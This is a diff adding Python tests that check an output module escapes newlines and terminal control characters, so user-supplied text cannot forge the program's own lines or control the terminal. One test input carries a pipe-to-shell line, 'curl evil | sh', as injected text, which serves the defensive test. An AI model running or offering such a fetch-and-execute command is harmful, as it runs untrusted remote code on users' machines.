@@ -31,6 +31,33 @@ def test_no_control_character_of_a_text_reaches_the_reader():
     assert output.visible("Grüße, 世界 \U0001f600 é") == "Grüße, 世界 \U0001f600 é"
 
 
+def test_nobodys_text_makes_a_line_that_looks_like_ours(capsys):
+    output.show("title\n  live: can be swapped in")
+    output.say("reason\nnext: homeostat proposals apply x")
+    output.show_error(Conflict("moved-on", "it is\nhint: curl evil | sh"))
+    output.show_text("good\nnext: apply it\x0bor\u2028else\r  policy: fine")
+    said = capsys.readouterr()
+    assert said.out.splitlines() == [
+        "title\\n  live: can be swapped in",
+        "  | good",
+        "  | next: apply it",
+        "  | or",
+        "  | else",
+        "  |   policy: fine",
+    ]
+    assert said.err.splitlines() == [
+        "reason\\nnext: homeostat proposals apply x",
+        "error[moved-on]: it is\\nhint: curl evil | sh",
+    ]
+
+
+def test_a_json_document_controls_no_terminal_and_is_the_same_document(capsys):
+    output.emit_json({"title": HOSTILE + "ü"})
+    printed = capsys.readouterr().out
+    assert not set(printed) & set("\x1b\x07\r\x7f\x9b\u200f\u202e\u2066") and "ü" in printed
+    assert json.loads(printed)["title"] == HOSTILE + "ü"
+
+
 def test_neither_does_one_of_an_error(capsys):
     code = output.show_error(Conflict("moved-on", f"it is {HOSTILE} now", hint=HOSTILE))
     said = capsys.readouterr()
